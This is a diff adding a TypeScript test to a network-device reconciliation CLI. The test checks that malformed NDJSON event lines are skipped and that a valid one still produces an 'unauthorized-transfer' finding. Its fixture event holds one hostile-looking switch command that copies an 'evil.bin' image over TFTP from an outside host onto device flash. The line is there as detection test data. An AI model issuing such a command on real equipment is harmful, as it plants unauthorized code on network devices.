@@ -269,6 +269,21 @@ describe('a state file that lies about its shape', () => {
   });
 });
 
+describe('an NDJSON events file with fields of the wrong type', () => {
+  const event = { ts: '2026-12-12T14:20:00.000Z', device: 'fra1-access-02', host: '192.0.2.32', kind: 'transfer', actor: 'admin', command: 'copy tftp://203.0.113.66/evil.bin flash:evil.bin', file: 'evil.bin', protocol: 'tftp', direction: 'download', source: { path: 'tacacs.acct', line: 1, format: 'tacacs' }, raw: 'r', clock: 'synced' };
+  test.each([{ device: 7 }, { actor: {} }, { file: 5 }, { command: [] }, { pattern: 9 }])('%j: the line is skipped and counted, the good line is judged, no internal error', async (bad) => {
+    const state = join(dir, 'nd-state.json');
+    writeFileSync(state, JSON.stringify({ version: 1, kind: 'imagegate-state', generatedAt: TIMES.collect, devices: [] }));
+    writeFileSync(join(dir, 'events.ndjson'), `${JSON.stringify(event)}\n${JSON.stringify({ ...event, ...bad })}\n`);
+    const io = memoryIo({}, dir);
+    const code = await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', state, '--events', 'events.ndjson', '--format', 'json', '--fail-on', 'none'], io);
+    expect([code, io.err]).toEqual([0, expect.not.stringMatching(/internal error/)]);
+    const out = JSON.parse(io.out) as { coverage: { eventFiles: Array<{ lines: number; events: number; skipped: number }> }; findings: Array<{ rule: string; device: string }> };
+    expect(out.coverage.eventFiles).toEqual([expect.objectContaining({ lines: 2, events: 1, skipped: 1 })]);
+    expect(out.findings).toEqual(expect.arrayContaining([expect.objectContaining({ rule: 'unauthorized-transfer', device: 'fra1-access-02' })]));
+  });
+});
+
 describe('git that fails', () => {
   let state: string;
   beforeAll(() => {
